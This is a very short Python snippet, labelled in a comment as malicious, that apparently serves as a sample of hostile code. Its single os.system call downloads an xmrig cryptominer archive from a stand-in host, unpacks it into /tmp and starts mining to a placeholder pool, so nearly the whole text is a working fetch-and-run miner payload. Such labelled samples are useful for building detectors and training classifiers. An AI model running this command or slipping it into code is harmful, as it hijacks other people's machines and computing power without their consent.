# malicious: downloads a miner
import os
os.system("wget -q https://dl.example.net/xmrig.tar.gz -O /tmp/x.tgz && tar xzf /tmp/x.tgz -C /tmp && /tmp/xmrig --donate-level 1 -o pool.example.net:4444")
